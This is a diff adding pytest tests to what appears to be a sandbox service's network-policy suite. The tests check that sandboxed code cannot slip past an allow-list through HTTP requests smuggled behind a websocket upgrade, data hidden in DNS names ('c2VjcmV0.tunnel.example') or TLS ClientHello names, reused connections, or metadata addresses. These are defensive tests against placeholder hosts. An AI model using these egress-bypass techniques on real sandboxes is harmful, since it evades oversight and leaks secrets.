@@ -248,12 +248,54 @@ def test_4_by_another_host_in_the_second_request(run):
     assert "cdn.example" not in got and "/2" not in got
 
 
+@pytest.mark.parametrize("first_target", ["/1", "/to-metadata"])
+def test_4_by_another_host_behind_an_upgrade(run, first_target):
+    inside = run(ONLY_GOOD)
+    upgrade = f"GET {first_target} HTTP/1.1\\r\\nHost: good.example\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n"
+    other = "GET /2 HTTP/1.1\\r\\nHost: cdn.example\\r\\n\\r\\n"
+    got = inside(f"exchange('good.example', 80, b'{upgrade}{other}')")
+    assert "cdn.example" not in got and "/2" not in got
+    plain = f"GET /1 HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n"
+    got = inside(f"exchange('good.example', 80, b'{plain}{upgrade}{other}')")
+    assert "cdn.example" not in got and "/2" not in got
+
+
 def test_5_by_names_that_carry_data(run, world):
     inside = run(ONLY_GOOD)
     for kind in (1, 28, 16, 5, 10, 65):
         assert inside(f"ask('127.83.255.253', 'c2VjcmV0.tunnel.example', {kind})")[0] == 3
     assert inside("ask('127.83.255.253', 'c2VjcmV0.good.example', 16)") == [0, 0]
     assert world.names.asked == []
+
+
+MANY_HELLOS = """
+import socket, ssl
+def hello(name):
+    came, out = ssl.MemoryBIO(), ssl.MemoryBIO()
+    try:
+        ssl.create_default_context().wrap_bio(came, out, server_hostname=name).do_handshake()
+    except ssl.SSLWantReadError:
+        return out.read()
+hellos = [hello(f"x{number}.silent.example") for number in range(100)]
+sockets = []
+for each in hellos:
+    sockets.append(socket.create_connection(("%s", 443)))
+    sockets[-1].sendall(each)
+for each in sockets:
+    try:
+        each.recv(100)
+    except ConnectionResetError:
+        pass
+"""
+
+
+def test_5_by_names_in_many_hellos(run, api, world):
+    inside = run({"mode": "internet", "allow": ["*.silent.example"]})
+    api.write(inside.box, "/workspace/many.py", MANY_HELLOS % there.PUBLIC)
+    api.output(inside.box, "python3 many.py", timeout=60)
+    # 32 at a time, which take seconds to fail; the second half is for a slow machine.
+    assert 0 < len({name for name, _ in world.names.asked}) <= 64
+    assert not world.reached(there.PUBLIC)
 
 
 def test_6_by_another_name_server(run, world):
@@ -420,6 +462,24 @@ def test_19_after_the_policy_changed(run, api, world):
     assert inside("lookup('www.good.example')") == [there.PUBLIC]
 
 
+def test_a_connection_goes_by_the_names_that_it_was_judged_by(run, api, world):
+    inside = run({"mode": "internet", "allow": ["other.example", "*.many.example"]})
+    keep = (
+        "import socket, os\nos.mkfifo('/workspace/go')\ns = socket.create_connection(('other.example', 9000))\n"
+        "s.sendall(b'\\0'); s.recv(1)\nopen('/workspace/open', 'w')\nopen('/workspace/go').read()\n"
+        "try:\n    s.sendall(b'b'); print(s.recv(1))\nexcept OSError:\n    print('cut')\n"
+    )
+    api.write(inside.box, "/workspace/keep.py", keep)
+    api.start(inside.box, "python3 keep.py > result")
+    wait_until(lambda: api.read(inside.box, "/workspace/open").status_code == 200, "a connection", 20)
+    # The address gets so many other names that the first is forgotten.
+    assert inside("[lookup(f'n{number}.many.example') for number in range(20)][-1]") == [there.OTHER]
+    answer(api.http.put(f"/api/sandboxes/{inside.box}/network", json={"allow": ["other.example"]}))
+    api.output(inside.box, "echo > /workspace/go")
+    wait_until(lambda: api.read(inside.box, "/workspace/result").json().get("content"), "the end of the connection", 20)
+    assert api.read(inside.box, "/workspace/result").json()["content"] == "b'b'\n"
+
+
 def test_19_by_a_child(run, api, world):
     parent = run({"mode": "internet", "allow": ["good.example"]})
     child = run("internet", parent_sandbox_id=parent.box)
@@ -464,7 +524,7 @@ def test_what_is_wrong_is_said(api):
 def test_what_the_operator_says_holds_for_all(world, sandyd):
     running = sandyd(
         "--network-dns", f"127.0.0.1:{world.names.port}", "--network-deny", "bad.example,93.184.216.35",
-        "--network-private-allow", f"{there.PRIVATE}:80",
+        "--network-private-allow", f"{there.PRIVATE}:80,127.0.0.0/8",
     )
     world.came.clear()
     with Service(running.base_url, running.api_key) as api, api.box(**SMALL) as box:
@@ -474,4 +534,5 @@ def test_what_the_operator_says_holds_for_all(world, sandyd):
         assert "403" in first(inside(f"http_get('{there.OTHER}')"))
         assert isinstance(inside("lookup('bad.example')"), str)
         assert "403" in first(inside(f"http_get('{there.METADATA}')"))
+        assert isinstance(inside("lookup('other-loop.example')"), str)  # the machine's own, whatever is opened
     assert {each for each, _ in world.came} == {there.PRIVATE}
